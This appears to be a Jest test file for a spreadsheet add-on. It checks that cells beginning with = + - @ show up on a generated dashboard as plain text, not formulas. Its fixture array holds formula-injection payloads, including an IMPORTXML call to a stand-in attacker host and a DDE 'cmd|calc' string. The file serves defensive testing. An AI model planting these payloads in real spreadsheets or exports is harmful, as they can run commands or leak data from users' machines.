// Strings from the data that begin with = + - @ land on a dashboard as text: the only formulas are the add-on's sparklines.

import { snapshotWorkbook } from '../../scripts/runtime';
import { DEALS, setup, tab } from '../reliability/runtime-fixture';

const HOSTILE = ['=IMPORTXML("http://evil.example","//a")', '+33 6 12 34 56 78', '-2+3+cmd|calc', '@SUM(1,2)', '=1+1'];

/** `npm test` builds dist/ first: a missing bundle must fail these tests, never skip them. */
const describeBuilt = describe;

describeBuilt('hostile cells on a generated dashboard', () => {
  const deals = [
    ...DEALS,
    ['D6', '2024-03-01', '2024-03-11', 'Won', 100, HOSTILE[0], HOSTILE[1], ''],
    ['D7', '2024-03-01', '2024-03-12', 'Won', 100, HOSTILE[2], HOSTILE[3], ''],
    ['D8', '2024-03-01', '2024-03-13', 'Lost', 100, HOSTILE[3], HOSTILE[4], HOSTILE[0]],
    ['D9', '2024-03-01', '2024-03-14', 'Lost', 100, 'Bob', 'Web', HOSTILE[4]],
  ];
  const { runtime, workbook } = setup({ deals });
  const dataBefore = snapshotWorkbook(workbook).sheets[0];
  runtime.call('generateLastMonthDashboard');
  const sheet = tab(workbook);

  test('the tab is generated without any alert', () => {
    expect(runtime.ui.alerts).toEqual([]);
    expect(sheet).toBeDefined();
  });

  test('no cell of the tab holds a formula but the sparklines over its own cells (no tab name, no text from the data)', () => {
    const formulas = sheet!.formulas.flat().filter((f) => f !== '');
    for (const f of formulas) expect(f).toMatch(/^=SPARKLINE\([A-Z]+\d+:[A-Z]+\d+\)$/);
  });

  test.each(HOSTILE)('%s appears verbatim as text', (text) => {
    expect(sheet!.values.flat()).toContain(text);
  });

  test('the data sheet itself is left exactly as the user wrote it', () => {
    const data = workbook.sheets.find((s) => s.name === 'Deals')!;
    expect(data).toEqual(dataBefore);
    expect(data.values.flat()).toEqual(expect.arrayContaining(HOSTILE));
  });
});
